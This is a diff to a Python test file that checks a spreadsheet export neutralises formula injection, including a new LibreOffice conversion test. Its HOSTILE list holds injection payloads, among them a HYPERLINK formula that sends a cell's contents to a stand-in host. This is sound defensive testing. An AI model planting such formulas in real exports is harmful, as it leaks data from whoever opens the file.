@@ -8,8 +8,13 @@ from __future__ import annotations
 
 import json
 import re
+import shutil
+import subprocess
 import zipfile
+from pathlib import Path
+from xml.etree import ElementTree
 
+import pytest
 from openpyxl import load_workbook
 
 from engine.exporting import export
@@ -17,6 +22,8 @@ from engine.formats.tables import EXCEL_MAX_COLUMNS, NOT_WRITTEN_SHEET
 from engine.importing import import_files
 from engine.storage import NewDocument, Repository
 
+ODF_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 HOSTILE = ["=1+1", '=HYPERLINK("http://example.org/?"&C2)', "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
 
@@ -39,17 +46,24 @@ def _formula_cells(path) -> list[str]:
     return found
 
 
-def test_formula_like_types_and_metadata_keys_are_inert_in_every_sheet(tmp_path):
+def _hostile_export(folder: Path) -> Path:
+    """The Excel export of a database holding every hostile name as an entity type, metadata key and title."""
     # a type may not start with a space (the reader refuses "\t=1"); a metadata key and a title may
     lines = [{"text": "জ্বর আছে, কাশি নেই", "label": [[0, 4, name if n < 5 else "Symptom"]], name: f"value {n}",
               "title": name} for n, name in enumerate(HOSTILE)]
-    path = tmp_path / "hostile.jsonl"
+    path = folder / "hostile.jsonl"
     path.write_text("\n".join(json.dumps(line, ensure_ascii=False) for line in lines) + "\n", encoding="utf-8")
-    repo = Repository(tmp_path / "db.sqlite3")
+    repo = Repository(folder / "db.sqlite3")
     _import_and_store(repo, path)
-    out = tmp_path / "out.xlsx"
+    out = folder / "out.xlsx"
     summary = export(repo, out)
+    repo.close()
     assert summary.documents == len(HOSTILE) and not summary.not_written
+    return out
+
+
+def test_formula_like_types_and_metadata_keys_are_inert_in_every_sheet(tmp_path):
+    out = _hostile_export(tmp_path)
     assert _formula_cells(out) == []
     wb = load_workbook(out)
     headers = {ws.title: [c for c in ws[1]] for ws in wb}
@@ -57,6 +71,21 @@ def test_formula_like_types_and_metadata_keys_are_inert_in_every_sheet(tmp_path)
     metadata_keys = [c for c in headers["Documents"] if str(c.value).replace("_x000D_", "\r") in HOSTILE]
     assert len(summary_types) == 5 and len(metadata_keys) == len(HOSTILE)
     assert all(c.data_type == "s" and c.quotePrefix for c in summary_types + metadata_keys)
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (.ci/run installs it)")
+def test_libreoffice_opens_the_hostile_export_without_a_single_formula(tmp_path):
+    out = _hostile_export(tmp_path)
+    profile = (tmp_path / "lo-profile").as_uri()  # a private profile: no first-start dialogs, no shared lock
+    done = subprocess.run([SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "ods",
+                           "--outdir", str(tmp_path / "lo"), str(out)], capture_output=True, text=True, timeout=300)
+    converted = tmp_path / "lo" / "out.ods"
+    assert converted.is_file(), done.stdout + done.stderr
+    with zipfile.ZipFile(converted) as zf:
+        content = zf.read("content.xml").decode("utf-8")
+    assert "table:formula=" not in content  # LibreOffice's own reading: no cell it would evaluate
+    texts = {"".join(p.itertext()) for p in ElementTree.fromstring(content).iter(f"{{{ODF_TEXT}}}p")}
+    assert set(HOSTILE[:5]) <= texts  # each hostile name is there, as the text it was
 
 
 def test_a_row_of_20000_cells_is_exported_with_the_rest_and_named(tmp_path):
